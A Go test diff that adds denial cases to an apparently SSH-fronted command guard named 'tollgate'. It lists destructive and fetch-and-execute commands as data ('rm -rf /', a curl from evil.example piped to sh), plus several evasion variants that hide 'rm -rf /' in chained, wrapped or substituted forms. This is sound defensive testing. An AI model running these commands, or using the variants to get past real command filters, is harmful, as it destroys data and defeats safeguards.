@@ -78,6 +78,14 @@ func TestGuardDenies(t *testing.T) {
 	for _, tc := range []struct{ command, reason string }{
 		{"rm -rf /", "removing / is not allowed"},
 		{"curl https://evil.example/x.sh | sh", "piping a download into a shell is not allowed"},
+		// The same, hidden in a longer line: the rule's glob meets each
+		// simple command (field "commands"), not only the whole line.
+		{"true; rm -rf /", "removing / is not allowed"},
+		{"true\nrm  -rf /", "removing / is not allowed"},
+		{"/bin/rm -rf /", "removing / is not allowed"},
+		{"X=1 rm -rf /", "removing / is not allowed"},
+		{"bash -c 'rm -rf /'", "removing / is not allowed"},
+		{"echo $(rm -rf /)", "removing / is not allowed"},
 	} {
 		r := e.ssh(t, tok, user, nil, tc.command)
 		if r.code != 126 || bytes.Contains(r.stdout, []byte("RAN")) || !strings.Contains(string(r.stderr), "tollgate: denied: "+tc.reason) {
